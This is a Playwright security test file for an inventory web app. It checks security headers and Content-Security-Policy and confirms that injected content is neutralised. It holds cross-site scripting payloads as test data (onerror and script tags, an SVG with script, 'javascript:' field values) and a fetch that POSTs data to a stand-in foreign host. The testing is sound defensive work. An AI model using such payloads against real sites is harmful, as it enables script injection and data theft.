import type { Page } from '@playwright/test';
import { expect, signedInTest as test } from '../support/fixtures';
import { ProductForm } from '../support/product-form';

const SCRIPT = '<img src="x" onerror="window.hacked = 1"><script>window.hacked = 1</script>';
const FOREIGN = 'https://foreign.example.com';

/** Records the directives that the browser reports as violated. */
async function recordViolations(page: Page) {
  await page.evaluate(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    );
  });
  return () => page.evaluate(() => [...new Set(Reflect.get(window, 'violations'))].toSorted());
}

test('every answer forbids what it does not need and names no software', async ({
  request,
  page,
}) => {
  await page.goto('/products');
  const entry = await page.evaluate(() => {
    const urls = performance.getEntriesByType('resource').map(({ name }) => new URL(name).pathname);
    return urls.find((path) => /^\/remotes\/.*\.js$/.test(path));
  });
  for (const path of [
    '/',
    '/no/such/page',
    '/registry.json',
    '/favicon.ico',
    entry ?? 'none',
    '/remotes/mf-products/gone/remoteEntry.js',
    '/api/health',
    '/api/products',
    '/api/no-such-thing',
    '/api/openapi.json',
    `/api/images/${'0'.repeat(64)}`,
    '/%zz',
  ]) {
    const headers = (await request.get(path)).headers();
    expect.soft(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'same-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    });
    expect.soft(headers['content-security-policy'], path).toMatch(/^default-src 'none'/);
    const policy = headers['content-security-policy'] ?? '';
    // Reading barcodes of the camera is WebAssembly, which evaluates no scripts.
    expect.soft(policy.replace("'wasm-unsafe-eval'", ''), path).not.toContain('unsafe');
    expect.soft(headers['server'] ?? headers['x-powered-by'], path).toBeUndefined();
  }
});

test('injected markup neither runs nor styles nor sends', async ({ page, browserErrors }) => {
  browserErrors.allow(/Content Security Policy|ERR_BLOCKED_BY_CSP|csp/i, /answer 404.*\/x$/, /404/);
  await page.goto('/products');
  await expect(page.getByRole('table')).toBeVisible();
  const violations = await recordViolations(page);
  await page.evaluate(
    ({ html, foreign }) => {
      const put = (markup: string) => document.body.insertAdjacentHTML('beforeend', markup);
      const run = (set: (script: HTMLScriptElement) => void) => {
        const script = document.createElement('script');
        set(script);
        document.body.append(script);
      };
      put(html);
      put('<p id="styled" style="position: fixed">styled</p>');
      put('<style>#styled { position: fixed }</style>');
      put(`<iframe src="${foreign}/frame"></iframe><object data="${foreign}/object"></object>`);
      put(`<link rel="stylesheet" href="${foreign}/style.css">`);
      put(`<base href="${foreign}/">`);
      run((script) => (script.textContent = 'window.hacked = 1'));
      run((script) => (script.src = `${foreign}/script.js`));
      fetch(`${foreign}/send`, { method: 'POST', body: 'stock' }).catch(() => undefined);
    },
    { html: SCRIPT, foreign: FOREIGN },
  );
  await expect
    .poll(violations)
    .toEqual([
      'base-uri',
      'connect-src',
      'frame-src',
      'object-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ]);
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
  await expect(page.locator('#styled')).toHaveCSS('position', 'static');
  // Last, because it starts a navigation.
  await page.evaluate((foreign) => {
    const form = document.createElement('form');
    form.action = `${foreign}/form`;
    document.body.append(form);
    form.submit();
  }, FOREIGN);
  await expect.poll(violations).toContain('form-action');
  expect(new URL(page.url()).pathname).toBe('/products');
});

test('an image from another site brings only a picture, and learns neither page nor token', async ({
  page,
}) => {
  let sent: Record<string, string> = {};
  await page.route(`${FOREIGN}/**`, (route) => {
    sent = route.request().headers();
    const body =
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>top.hacked = 1</script></svg>';
    return route.fulfill({ contentType: 'image/svg+xml', body });
  });
  const form = new ProductForm(page);
  await form.openNew();
  await form.fill({ imageUrl: `${FOREIGN}/lamp.svg` });
  await expect(form.preview).toBeVisible();
  expect(sent).not.toHaveProperty('referer');
  expect(sent).not.toHaveProperty('authorization');
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
});

test('no page can be framed', async ({ page, origin, browserErrors }) => {
  browserErrors.allow(/frame-ancestors|X-Frame-Options|ERR_BLOCKED_BY_RESPONSE/i);
  await page.route('**/framing', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${origin}/login"></iframe>` }),
  );
  await page.goto('/framing');
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
});

test('pages show typed HTML and javascript: as text', async ({ page, api }) => {
  const typed = `<b>bold</b>${SCRIPT}`;
  const supplier = await api.createSupplier({
    companyName: typed,
    phone: 'javascript:hacked=1',
    notes: typed,
    address: 'javascript:hacked=1',
    paymentTerms: typed,
  });
  const product = await api.createProduct({
    name: typed,
    description: typed,
    supplierId: supplier._id,
    imageUrl: '',
  });
  const order = await api.createOrder({
    customerName: typed,
    notes: typed,
    items: [{ productId: product._id, quantity: 1, unitPrice: 1 }],
  });
  for (const path of [
    `/products?search=${encodeURIComponent(product.sku)}`,
    `/suppliers?search=${encodeURIComponent(typed)}`,
    `/orders/${order._id}`,
    '/orders',
    '/',
  ]) {
    await page.goto(path);
    if (path !== '/') await expect(page.getByText('<b>bold</b>').first()).toBeVisible();
    const links = page.locator('[href^="javascript:" i], [src^="javascript:" i]');
    await expect(links).toHaveCount(0);
    expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
  }
});
